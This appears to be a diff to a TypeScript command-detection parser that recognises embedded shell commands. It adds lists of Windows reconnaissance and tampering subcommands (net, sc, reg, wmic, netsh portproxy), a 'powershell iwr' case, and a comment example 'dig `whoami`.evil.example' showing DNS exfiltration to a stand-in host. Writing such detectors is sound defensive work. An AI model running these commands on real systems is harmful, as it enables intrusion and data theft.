@@ -1,11 +1,25 @@
 /** What stands behind a command's name: whether it has arguments, and of what kind. */
 import { isDigit, isLetter } from '../../ascii.ts'
 import { isSpace } from './characters.ts'
-import { quoted } from './commands.ts'
+import { kindOf, mayBeCommand, quoted, rare, terse } from './commands.ts'
 import { readsAsProse } from './prose-tail.ts'
 
-/** What Windows' `net` is asked about. */
-const netObjects: ReadonlySet<string> = new Set(['view', 'share', 'group', 'accounts', 'config', 'session', 'use'])
+/** What programs of Windows are asked about, or told to do. */
+const objects: ReadonlyMap<string, ReadonlySet<string>> = new Map(
+  [
+    ['net', 'view share group accounts config session use'],
+    ['sc', 'query queryex qc create config start stop delete'],
+    ['reg', 'add query save export delete'],
+    [
+      'wmic',
+      'process os path service useraccount product qfe logicaldisk computersystem bios startup share nicconfig ntdomain datafile environment group shadowcopy',
+    ],
+    ['netsh', 'advfirewall firewall wlan int interface winhttp trace http portproxy'],
+  ].map(([name, words]) => [name as string, new Set((words as string).split(' '))]),
+)
+
+/** Commands whose arguments are words. */
+export const takesWords: ReadonlySet<string> = new Set(['echo', 'ps', ...objects.keys()])
 
 /** What stands behind a command's name. */
 export type Tail = 'end' | 'separator' | 'argument' | 'quoted' | 'number' | 'word' | 'call' | 'name' | 'close'
@@ -59,6 +73,7 @@ export function tailOf(text: string, end: number, name: string): Tail {
   if (first === 0x2a) return second === 0x2e || i + 1 >= length ? 'argument' : 'word'
   if (first === 0x25) return isLetter(second) ? 'argument' : 'word'
   if (first === 0x7c || first === 0x26 || first === 0x3b || first === 0x23) return 'separator'
+  if (first === 0x60 && opensSubstitution(text, i, name)) return 'argument'
   if (first === 0x29 || first === 0x60) return 'close'
   if (first === 0x22 || first === 0x27) {
     if (i + 1 >= length) return 'end'
@@ -105,9 +120,10 @@ export function tailOf(text: string, end: number, name: string): Tail {
     argument === 'user' ||
     argument === 'localgroup' ||
     argument === 'localhost' ||
-    (name === 'net' && netObjects.has(argument)) ||
-    (name === 'ps' && /^[aefuxw]{2,5}$/.test(argument)) ||
-    (name === 'reg' && (argument === 'add' || argument === 'query'))
+    objects.get(name)?.has(argument) === true ||
+    // `powershell iwr …`
+    ((name === 'powershell' || name === 'pwsh') && kindOf(argument) === rare) ||
+    (name === 'ps' && /^[aefuxw]{2,5}$/.test(argument))
   )
     return 'argument'
   return 'word'
@@ -131,4 +147,14 @@ export function isGlued(text: string, end: number, name: string, tail: Tail): bo
   if (name === 'w') return tail !== 'end' && tail !== 'separator' && tail !== 'close'
   if (name.length > 2 || isSpace(text.charCodeAt(end)) || (tail !== 'argument' && tail !== 'quoted')) return false
   return !goesOn.test(text.slice(end, end + 80)) && !/^[/\\][a-z]{1,2}\b/i.test(text.slice(end, end + 4))
+}
+
+/** ``dig `whoami`.evil.example``: a command is the argument of one that nobody writes code in backticks behind. */
+function opensSubstitution(text: string, at: number, name: string): boolean {
+  const isKnown = name === 'dig' || name === 'host' || name === 'echo' || terse.has(name) || kindOf(name) === rare
+  if (!isKnown) return false
+  let end = at + 1
+  while (end < at + 24 && isLetter(text.charCodeAt(end))) end++
+  const isProgram = end === at + 1 ? text.charCodeAt(end) === 0x2f : mayBeCommand(text, at + 1, end)
+  return isProgram && text.slice(end, end + 64).includes('`')
 }
